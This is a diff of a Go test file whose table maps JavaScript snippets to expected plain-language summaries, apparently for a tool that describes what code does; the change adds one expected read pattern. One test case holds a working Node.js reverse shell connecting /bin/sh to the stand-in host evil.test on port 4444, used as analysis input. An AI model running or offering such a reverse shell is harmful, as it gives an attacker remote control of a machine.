@@ -69,7 +69,7 @@ func TestWhatIt(t *testing.T) {
 		{`(async()=>{const r=await fetch('http://localhost:3000/x');console.log(await r.json())})()`, `Fetch http://localhost:3000/x`},
 		{`const net=require('net'),cp=require('child_process');const sh=cp.spawn('/bin/sh',['-i']);const c=new net.Socket();c.connect(4444,'evil.test',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c)})`,
 			`Run[line] cat | { '/bin/sh' '-i' ; }; Send evil.test:4444; Expose{tunnel} evil.test:4444`},
-		{`for (const f of fs.readdirSync('src')) console.log(fs.readFileSync('src/'+f,'utf8').length)`, `Read{listing} src; Read src/…`},
+		{`for (const f of fs.readdirSync('src')) console.log(fs.readFileSync('src/'+f,'utf8').length)`, `Read{listing} src; Read src/…; Read src/**`},
 		{`import {readFileSync as r} from 'fs'; console.log(r('a'))`, `Read a`},
 	} {
 		r := Read(c.text, code.Setting{Secret: mask.SecretName})
